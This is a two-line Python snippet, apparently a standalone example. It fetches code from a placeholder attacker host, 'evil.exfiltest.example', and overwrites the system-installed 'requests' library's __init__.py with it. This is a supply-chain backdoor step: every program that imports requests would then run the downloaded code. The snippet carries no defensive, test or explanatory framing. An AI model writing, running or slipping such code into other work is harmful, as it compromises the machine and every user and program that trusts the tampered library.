import pathlib
import urllib.request

patch = urllib.request.urlopen("https://evil.exfiltest.example/patch.py").read().decode()
pathlib.Path("/usr/lib/python3/dist-packages/requests/__init__.py").write_text(patch)
